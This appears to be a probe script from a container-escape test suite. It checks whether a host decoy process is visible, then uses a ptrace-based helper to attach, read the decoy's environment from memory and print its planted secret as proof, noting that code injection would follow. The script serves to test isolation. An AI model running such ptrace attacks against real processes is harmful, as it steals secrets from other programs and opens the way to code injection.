# Attack: become the debugger of a host process and read its memory.
# The decoy keeps a secret in its environment, which lives in its memory.
echo "decoy: host pid $MC_DECOY_PID"
if [ ! -e "/proc/$MC_DECOY_PID" ]; then
    echo "/proc/$MC_DECOY_PID: no such process in this pid namespace"
fi
# mc-escape-ptrace-inject: PTRACE_SEIZE, PTRACE_INTERRUPT (the decoy stops),
# PTRACE_PEEKDATA over its environment, PTRACE_DETACH (it runs on unchanged).
# A tracer that got this far could as well write code into it and run it.
if out=$(mc-escape-ptrace-inject "$MC_DECOY_PID" MC_DECOY_SECRET 2>&1); then
    echo "$out"
    echo "PROOF $(echo "$out" | sed -n 's/^MC_DECOY_SECRET=//p')"
else
    echo "$out"
fi
